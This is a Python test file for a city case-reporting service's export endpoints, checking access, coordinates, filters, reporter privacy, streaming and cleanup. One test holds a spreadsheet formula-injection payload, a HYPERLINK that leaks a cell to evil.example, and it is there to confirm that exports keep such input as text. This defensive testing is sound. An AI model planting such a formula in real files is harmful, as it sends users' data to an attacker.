"""Case exports as CSV, GeoJSON, GeoPackage and Excel, on SQLite and on PostGIS."""

from __future__ import annotations

import io
import json
import math
import re
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from fastapi.testclient import TestClient
from pandas.testing import assert_frame_equal
from sqlalchemy import event
from sqlalchemy.orm import Session

from cases.lifecycle import Role
from gis.crs import from_wgs84
from service import exports
from store.issues import Actor
from tests.helpers import SHIMAO, auth, insert_cases, stored_case

FORMATS = ["csv", "geojson", "gpkg", "xlsx"]
ROLES = ["grid_worker", "dispatcher", "manager", "planner", "admin"]
WEST = (121.8270, 29.8975)  # district BD01
REPORTER = {"name": "王阿姨", "phone": "13800138000"}
STAIRWELL = "楼道里堆满了装修垃圾和旧家具"
MARKET = "商铺占道经营，门口摆满了货架"
BOM = b"\xef\xbb\xbf"
ADMIN = Actor("test admin", role=Role.ADMIN)


ROW_FORMATS = FORMATS


def report(api: TestClient, **fields: Any) -> dict[str, Any]:
    body = {
        "lon": SHIMAO[0],
        "lat": SHIMAO[1],
        "category": "stairwell_clutter",
        "description": STAIRWELL,
        "channel": "mobile",
        **fields,
    }
    response = api.post("/api/v1/issues", json=body)
    assert response.status_code == 201, response.text
    case: dict[str, Any] = response.json()
    return case


def export(api: TestClient, fmt: str, token: str | None, **params: Any) -> Any:
    headers = auth(token) if token else {}
    return api.get(f"/api/v1/exports/issues.{fmt}", params=params, headers=headers)


def parse(fmt: str, content: bytes, tmp_path: Path) -> pd.DataFrame:
    """An export read back with the tools a user of each format would use."""
    if fmt == "csv":
        assert content.startswith(BOM)  # so that Excel reads the Chinese text right
        return pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype={"grid_code": str})
    if fmt == "xlsx":
        return pd.read_excel(io.BytesIO(content), sheet_name="issues", dtype={"grid_code": str})
    if fmt == "geojson":
        collection = json.loads(content.decode("utf-8"))
        assert collection["type"] == "FeatureCollection"
        frame = gpd.read_file(io.BytesIO(content))
        assert len(frame) == len(collection["features"])
        return frame
    tmp_path.mkdir(parents=True, exist_ok=True)
    path = tmp_path / "issues.gpkg"
    path.write_bytes(content)
    assert [name for name, _ in pyogrio.list_layers(path)] == ["issues"]
    return gpd.read_file(path, layer="issues")


def readable_text(fmt: str, content: bytes) -> str:
    """Every piece of text a file holds, decoded (xlsx is a zip of XML parts)."""
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return "".join(
                archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
            )
    return content.decode("utf-8", "replace")


@pytest.fixture()
def cases(api: TestClient) -> dict[int, dict[str, Any]]:
    """Three cases by id: two stairwell ones, the second with the reporter's contact and
    typed in GCJ-02, and one merchant case in the west district."""
    lon, lat = from_wgs84(SHIMAO[0] + 0.0004, SHIMAO[1], "gcj02")
    created = [
        report(api),
        report(api, lon=float(lon), lat=float(lat), crs="gcj02", reporter=REPORTER),
        report(api, lon=WEST[0], lat=WEST[1], category="merchant", description=MARKET),
    ]
    return {c["id"]: c for c in created}


# -- access ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_exports_need_a_staff_token(api: TestClient, tokens: dict[str, str], fmt: str) -> None:
    anonymous = export(api, fmt, None)
    assert anonymous.status_code == 401
    assert anonymous.json()["error"]["code"] == "token_required"
    forged = export(api, fmt, "not-a-token")
    assert forged.status_code == 401 and forged.json()["error"]["code"] == "bad_token"
    for role in ROLES:
        response = export(api, fmt, tokens[role])
        assert response.status_code == 200, (role, response.text)


@pytest.mark.parametrize(
    ("fmt", "media_type"),
    [
        ("csv", "text/csv"),
        ("geojson", "application/geo+json"),
        ("gpkg", "application/geopackage+sqlite3"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_exports_are_downloads_of_their_type(
    api: TestClient, tokens: dict[str, str], fmt: str, media_type: str
) -> None:
    response = export(api, fmt, tokens["planner"])
    assert response.headers["content-type"].split(";")[0] == media_type
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith(f'.{fmt}"')


def test_unknown_format_is_404_naming_the_formats(api: TestClient, tokens: dict[str, str]) -> None:
    response = export(api, "pdf", tokens["admin"])
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("application/json")
    error = response.json()["error"]
    assert error["code"] == "unknown_format"
    assert "pdf" in error["message"]
    for fmt in FORMATS:
        assert fmt in error["message"]
    assert export(api, "pdf", None).status_code == 401


# -- content --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ROW_FORMATS)
def test_export_holds_every_case_with_its_wgs84_location(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    tmp_path: Path,
    fmt: str,
) -> None:
    response = export(api, fmt, tokens["manager"])
    assert response.status_code == 200, response.text
    frame = parse(fmt, response.content, tmp_path)
    assert len(frame) == 3
    assert sorted(int(i) for i in frame["id"]) == sorted(cases)
    for _, row in frame.iterrows():
        case = cases[int(row["id"])]
        lon, lat = case["location"]["lon"], case["location"]["lat"]
        assert float(row["lon"]) == pytest.approx(lon, abs=1e-9)
        assert float(row["lat"]) == pytest.approx(lat, abs=1e-9)
        if fmt in ("geojson", "gpkg"):
            assert row.geometry.geom_type == "Point"
            assert row.geometry.x == pytest.approx(lon, abs=1e-9)
            assert row.geometry.y == pytest.approx(lat, abs=1e-9)
        assert row["category"] == case["category"]["code"]
        assert row["category_name"] == case["category"]["name_zh"]
        assert row["description"] == case["description"]
        assert row["status"] == "reported"
        assert str(row["grid_code"]) == case["grid"]["code"]
        assert row["grid_name"] == case["grid"]["name"]
        assert row["district_code"] == case["district"]["code"]
        assert row["channel"] == "mobile"
        assert pd.notna(row["reported_at"]) and pd.notna(row["deadline"])
    if fmt in ("geojson", "gpkg"):
        assert frame.crs is not None and frame.crs.to_epsg() == 4326


@pytest.mark.parametrize("fmt", ROW_FORMATS)
def test_chinese_text_round_trips(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    tmp_path: Path,
    fmt: str,
) -> None:
    frame = parse(fmt, export(api, fmt, tokens["admin"]).content, tmp_path)
    texts = set(frame["description"]) | set(frame["category_name"]) | set(frame["grid_name"])
    assert {STAIRWELL, MARKET, "楼道堆物", "凌霄社区第十六网格"} <= texts


def test_gcj02_report_is_exported_at_its_wgs84_truth(
    api: TestClient, tokens: dict[str, str], cases: dict[int, dict[str, Any]], tmp_path: Path
) -> None:
    typed_id = sorted(cases)[1]
    typed = cases[typed_id]
    assert typed["category"]["code"] == "stairwell_clutter"
    truth = (SHIMAO[0] + 0.0004, SHIMAO[1])
    assert typed["location"]["lon"] == pytest.approx(truth[0], abs=1e-6)
    frame = parse("gpkg", export(api, "gpkg", tokens["admin"]).content, tmp_path)
    row = frame.set_index("id").loc[typed_id]
    assert row.geometry.x == pytest.approx(truth[0], abs=1e-6)
    assert row.geometry.y == pytest.approx(truth[1], abs=1e-6)


@pytest.mark.parametrize("fmt", ROW_FORMATS)
def test_filters_select_the_exported_cases(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    tmp_path: Path,
    fmt: str,
) -> None:
    def ids(**params: Any) -> set[int]:
        response = export(api, fmt, tokens["dispatcher"], **params)
        assert response.status_code == 200, response.text
        return {int(i) for i in parse(fmt, response.content, tmp_path)["id"]}

    def of(category: str) -> set[int]:
        return {i for i, c in cases.items() if c["category"]["code"] == category}

    merchant, stairwell = of("merchant"), of("stairwell_clutter")
    assert len(merchant) == 1 and len(stairwell) == 2
    assert ids(category="merchant") == merchant
    assert ids(category="stairwell_clutter") == stairwell
    assert ids(category="stairwell_clutter,merchant") == set(cases)
    assert ids(district="BD01") == merchant
    assert ids(grid="330206002016016") == stairwell
    assert ids(status="reported") == set(cases)
    assert ids(limit=1, offset=1) == set(cases)  # exports are not paged


def test_export_filter_errors_are_400(api: TestClient, tokens: dict[str, str]) -> None:
    bad = export(api, "csv", tokens["admin"], status="lost")
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "unknown_status"
    since = export(api, "csv", tokens["admin"], since="yesterday")
    assert since.status_code == 400 and since.json()["error"]["code"] == "bad_datetime"
    # a year-1 instant east of UTC is year 0 in UTC, which no date can hold: a 400, not a 500
    for early in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"):
        for path in ("/api/v1/issues", "/api/v1/issues/cells"):
            answer = api.get(path, params={"since": early, "until": early})
            assert answer.status_code == 400, (path, early, answer.text)
            assert early in answer.json()["error"]["message"]


@pytest.mark.parametrize("fmt", ROW_FORMATS)
def test_exports_never_carry_reporter_contact(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    tmp_path: Path,
    fmt: str,
) -> None:
    contact_id = sorted(cases)[1]
    staff_view = api.get(f"/api/v1/issues/{contact_id}", headers=auth(tokens["admin"])).json()
    assert staff_view["reporter"] == REPORTER  # the contact is stored, only not exported
    response = export(api, fmt, tokens["admin"])
    assert response.status_code == 200
    for raw in (response.content, readable_text(fmt, response.content).encode()):
        assert "王阿姨".encode() not in raw and b"13800138000" not in raw
    frame = parse(fmt, response.content, tmp_path)
    columns = [str(c).lower() for c in frame.columns]
    for word in ("reporter", "phone", "contact", "input"):
        assert not [c for c in columns if word in c], columns
    values = {str(v) for column in frame.columns for v in frame[column]}
    assert "王阿姨" not in values and "13800138000" not in values


# -- empty results --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_empty_result_exports_and_parses(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    tmp_path: Path,
    fmt: str,
) -> None:
    response = export(api, fmt, tokens["planner"], category="elder_care")
    assert response.status_code == 200, response.text
    frame = parse(fmt, response.content, tmp_path)
    assert len(frame) == 0
    if fmt == "geojson":
        assert json.loads(response.content)["features"] == []


@pytest.mark.parametrize("fmt", ["csv", "gpkg", "xlsx"])  # tables with a header
def test_an_empty_export_keeps_the_columns(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    tmp_path: Path,
    fmt: str,
) -> None:
    full = parse(fmt, export(api, fmt, tokens["admin"]).content, tmp_path / "full")
    empty_response = export(api, fmt, tokens["admin"], category="elder_care")
    assert empty_response.status_code == 200
    empty = parse(fmt, empty_response.content, tmp_path / "empty")
    assert len(empty) == 0
    assert list(empty.columns) == list(full.columns)


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_empty_database_exports(api: TestClient, tokens: dict[str, str], fmt: str) -> None:
    response = export(api, fmt, tokens["admin"])
    assert response.status_code == 200, response.text
    assert response.content


FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def test_a_formula_a_resident_typed_stays_text_in_csv_and_xlsx(
    api: TestClient, tokens: dict[str, str]
) -> None:
    from openpyxl import load_workbook

    report(api, description=FORMULA)
    report(api, description="+1 楼道又堆满了", reporter=REPORTER)
    csv = export(api, "csv", tokens["manager"])
    assert csv.status_code == 200
    frame = pd.read_csv(io.BytesIO(csv.content), encoding="utf-8-sig")
    assert set(frame["description"]) == {"'" + FORMULA, "'+1 楼道又堆满了"}
    xlsx = export(api, "xlsx", tokens["manager"])
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content))["issues"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    assert FORMULA in {c.value for c in cells}  # kept as the resident wrote it, as text


def test_characters_a_format_cannot_hold_do_not_break_the_export(
    api: TestClient, tokens: dict[str, str], loaded_url: str
) -> None:
    from openpyxl import load_workbook
    from sqlalchemy import update
    from sqlalchemy.orm import Session

    from store.db import make_engine
    from store.models import Issue

    case = report(api)
    # as an older version of the service may have stored it
    engine = make_engine(loaded_url)
    with Session(engine) as session, session.begin():
        session.execute(
            update(Issue).where(Issue.id == case["id"]).values(description="铃\u0007声\u001b响")
        )
    engine.dispose()
    for fmt in FORMATS:
        assert export(api, fmt, tokens["manager"]).status_code == 200, fmt
    sheet = load_workbook(io.BytesIO(export(api, "xlsx", tokens["manager"]).content))["issues"]
    assert "铃\ufffd声\ufffd响" in {c.value for row in sheet.iter_rows() for c in row}


# -- streaming: count first, rows in batches, no file left behind ---------------------------

LINGXIAO = "330206002016"
CLOCK = datetime(2026, 11, 2, 1, 2, 3, 456789)  # with microseconds, as real clocks give


def row_reads(statements: list[str]) -> list[str]:
    """The statements that read cases' rows: any on ``issues`` but a count."""
    return [
        s
        for s in statements
        if re.search(r"\bFROM issues\b", s) and not s.lstrip().upper().startswith("SELECT COUNT(")
    ]


@contextmanager
def statements_run(engine: Any) -> Iterator[list[str]]:
    """The SQL statements ``engine`` runs inside the block."""
    seen: list[str] = []

    def note(_conn: Any, _cursor: Any, statement: str, *_: Any) -> None:
        seen.append(statement)

    event.listen(engine, "before_cursor_execute", note)
    try:
        yield seen
    finally:
        event.remove(engine, "before_cursor_execute", note)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_too_large_export_is_refused_before_any_case_is_read(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    monkeypatch: pytest.MonkeyPatch,
    fmt: str,
) -> None:
    engine = api.app.state.engine  # type: ignore[attr-defined]
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    with statements_run(engine) as statements:
        refused = export(api, fmt, tokens["admin"])
    assert refused.status_code == 422, refused.text
    error = refused.json()["error"]
    assert error["code"] == "export_too_large"
    assert "3 cases match" in error["message"] and "to 2 or fewer" in error["message"]
    assert [s for s in statements if "FROM issues" in s], "the cases were not even counted"
    assert row_reads(statements) == []
    # the same export within the cap does read the rows, which the check above would see
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 3)
    with statements_run(engine) as statements:
        assert export(api, fmt, tokens["admin"]).status_code == 200
    assert row_reads(statements)


class BodyPieces:
    """An ASGI app around ``app`` that keeps the body of each message the answer is sent in."""

    def __init__(self, app: Any) -> None:
        self.app, self.pieces = app, list[bytes]()

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        async def kept(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.body" and message.get("body"):
                self.pieces.append(message["body"])
            await send(message)

        await self.app(scope, receive, kept)


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_csv_and_geojson_are_sent_in_pieces_as_the_cases_are_read(
    api: TestClient, tokens: dict[str, str], loaded_url: str, tmp_path: Path, fmt: str
) -> None:
    n = 2 * exports.BATCH + 500
    insert_cases(loaded_url, [stored_case(LINGXIAO) for _ in range(n)])
    recorder = BodyPieces(api.app)
    client = TestClient(recorder)
    headers = {**auth(tokens["manager"]), "Accept-Encoding": "identity"}
    response = client.get(f"/api/v1/exports/issues.{fmt}", headers=headers)
    assert response.status_code == 200, response.text
    assert len(parse(fmt, response.content, tmp_path)) == n
    # the head, a piece per batch of rows read (the GeoJSON's tail too), never one lump
    assert len(recorder.pieces) >= 1 + math.ceil(n / exports.BATCH)
    assert b"".join(recorder.pieces) == response.content


def test_rows_are_read_a_batch_at_a_time_as_the_export_is_taken(
    loaded_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from service.community import SnapshotCache
    from store.db import make_engine
    from store.issues import IssueFilter

    n = 2 * exports.BATCH + 1
    insert_cases(loaded_url, [stored_case(LINGXIAO) for _ in range(n)])
    taken: list[int] = []
    streamed = exports.stream_columns

    def spy(*args: Any, **kwargs: Any) -> Iterator[Any]:
        for rows in streamed(*args, **kwargs):
            taken.append(len(rows))
            yield rows

    monkeypatch.setattr(exports, "stream_columns", spy)
    engine = make_engine(loaded_url)
    try:
        with Session(engine) as session:
            snapshot = SnapshotCache().require(session)
            done = exports.export_issues(session, snapshot, IssueFilter(), "csv", ADMIN)
            assert taken == []  # counted, not read yet
            assert next(done.content).startswith(BOM + b"id,category,")
            assert taken == []  # the header needs no case
            assert next(done.content).count(b"\n") == exports.BATCH
            assert taken == [exports.BATCH]
            rest = list(done.content)
    finally:
        engine.dispose()
    assert taken == [exports.BATCH, exports.BATCH, 1]
    assert [p.count(b"\n") for p in rest] == [exports.BATCH, 1]


@pytest.mark.parametrize("fmt", ["gpkg", "xlsx"])
def test_files_leave_no_temporary_file_after_the_answer_or_a_failure(
    api: TestClient,
    tokens: dict[str, str],
    cases: dict[int, dict[str, Any]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fmt: str,
) -> None:
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    monkeypatch.setattr(exports, "GPKG_ROWS", 1)  # each batch written as soon as it is read
    streamed = exports.stream_columns
    seen: list[list[Path]] = []  # the temporary files, after the last batch was read

    def then(*args: Any, **kwargs: Any) -> Iterator[Any]:
        yield from streamed(*args, **kwargs)
        seen.append(sorted(p for p in temporary.rglob("*") if p.is_file()))

    monkeypatch.setattr(exports, "stream_columns", then)
    response = export(api, fmt, tokens["manager"])
    assert response.status_code == 200, response.text
    assert len(parse(fmt, response.content, tmp_path / "read")) == len(cases)
    assert seen and seen[0], "the file was not written in the temporary folder"
    assert list(temporary.iterdir()) == []

    def failing(*args: Any, **kwargs: Any) -> Iterator[Any]:
        yield from then(*args, **kwargs)
        raise RuntimeError("the database went away")

    monkeypatch.setattr(exports, "stream_columns", failing)
    with pytest.raises(RuntimeError, match="went away"):
        export(api, fmt, tokens["manager"])
    assert seen[-1], "the failure came before anything was written"
    assert list(temporary.iterdir()) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_streamed_exports_hold_what_the_in_memory_exports_held(
    api: TestClient, tokens: dict[str, str], loaded_url: str, tmp_path: Path, fmt: str
) -> None:
    from bench.exports import old_export
    from store.db import make_engine
    from store.issues import IssueFilter

    state = api.app.state  # type: ignore[attr-defined]
    state.clock = lambda: CLOCK
    made = [
        report(api),
        report(api, description=FORMULA, reporter=REPORTER),
        report(api, lon=WEST[0], lat=WEST[1], category="merchant", description=MARKET),
        report(api, description='引号"和,逗号\n换行'),
    ]
    staff = auth(tokens["admin"])
    for case, steps in zip(made, [["filed", "dispatched"], ["filed"], [], []], strict=True):
        for step in steps:
            body = {"to": step, **({"squad": "SQ2"} if step == "dispatched" else {})}
            moved = api.post(f"/api/v1/issues/{case['id']}/transitions", json=body, headers=staff)
            assert moved.status_code == 200, moved.text
    state.clock = lambda: CLOCK + timedelta(days=20)  # overdue by now
    streamed = export(api, fmt, tokens["admin"])
    assert streamed.status_code == 200, streamed.text
    engine = make_engine(loaded_url)
    try:
        with Session(engine) as session:
            snapshot = state.areas.require(session)
            filters = IssueFilter(now=CLOCK + timedelta(days=20))
            old, media_type, _ = old_export(session, snapshot, filters, fmt, ADMIN)
    finally:
        engine.dispose()
    assert streamed.headers["content-type"] == media_type
    if fmt in ("csv", "geojson"):
        assert streamed.content == old
    elif fmt == "xlsx":
        assert sheet_values(streamed.content) == sheet_values(old)
    else:
        new_frame = parse(fmt, streamed.content, tmp_path / "new")
        old_frame = parse(fmt, old, tmp_path / "old")
        # a time column without any time is a time column now, a text column before
        for frame in (new_frame, old_frame):
            for column in exports.TIMES:
                frame[column] = pd.to_datetime(frame[column]).astype("datetime64[ms]")
        assert_frame_equal(new_frame, old_frame)


def sheet_values(content: bytes) -> list[list[tuple[Any, str]]]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content))["issues"]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_csv_pieces_write_each_time_as_it_is() -> None:
    """One rule a streamed file can keep: a time with microseconds has them, one without
    has none (pandas padded a whole column with .000000 when any time in it had them)."""
    from service.spreadsheet import csv_chunks

    rows = [
        [1, datetime(2026, 11, 30, 9, 0), 1.5, True, None, "=1+1"],
        [2, datetime(2026, 11, 30, 9, 0, 0, 120000), 121.827, False, "a,b", 'say "hi"\nbye'],
    ]
    pieces = list(csv_chunks(["id", "at", "x", "flag", "note", "text"], [rows[:1], rows[1:]]))
    assert len(pieces) == 3  # the head, then a piece per batch
    assert b"".join(pieces).decode("utf-8") == (
        "\ufeffid,at,x,flag,note,text\n"
        "1,2026-11-30 09:00:00,1.5,True,,'=1+1\n"
        '2,2026-11-30 09:00:00.120000,121.827,False,"a,b","say ""hi""\nbye"\n'
    )
